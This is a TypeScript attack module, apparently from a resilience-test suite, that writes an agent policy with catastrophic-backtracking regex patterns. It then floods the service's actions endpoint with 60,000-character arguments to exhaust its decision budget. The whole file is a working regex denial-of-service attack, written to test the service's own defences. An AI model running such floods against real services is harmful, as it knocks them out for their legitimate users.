/**
 * Actions that are as expensive to decide as possible: each has three arguments of 60,000 characters, and the
 * patterns of the policy use up the step budget of the action. The attack needs two keys of one tenant: one may
 * author, and one may publish.
 */
import { randomUUID } from 'node:crypto';
import { askOften } from './ask-often.ts';
import { askWith, expectTo } from './asked.ts';
import type { Attack } from './attack.ts';

const FIELDS = ['a', 'b', 'c'];
const AGENT = 'dear';

export const expensiveDecisions: Attack = async (target, until) => {
  const [author = '', publisher = ''] = target.keys;
  const write = askWith(target.url, author);
  const patterns = Array.from({ length: 4 }, (_, n) => ({ pattern: `(a|b|ab)*c${n}` }));
  const schema = {
    type: 'object',
    properties: Object.fromEntries(FIELDS.map((field) => [field, { type: 'string', allOf: patterns }])),
  };
  const policy = { version: 1, id: AGENT, toolPolicies: { look: { argumentValidation: { schema } } } };
  await expectTo(write('POST', '/v1/agents', { id: AGENT }), 'register an agent');
  await expectTo(write('PUT', `/v1/policies/${AGENT}`, policy), 'write a policy');
  const rule = { version: 1, id: AGENT, policy: AGENT, agents: [AGENT] };
  await expectTo(write('PUT', `/v1/rules/${AGENT}`, rule), 'write a rule');

  const args = Object.fromEntries(FIELDS.map((field) => [field, 'a'.repeat(60_000)]));
  const action = { agentId: AGENT, type: 'tool_call', tool: 'look', args };
  const one = () => JSON.stringify({ id: randomUUID(), ...action });
  await askOften(target, until, 12, (nth) => ({
    method: 'POST',
    path: nth % 2 === 0 ? '/v1/actions?waitMs=20000' : '/v1/actions',
    key: publisher,
    body: nth % 2 === 0 ? one() : `[${one()},${one()},${one()},${one()},${one()}]`,
  }));
};
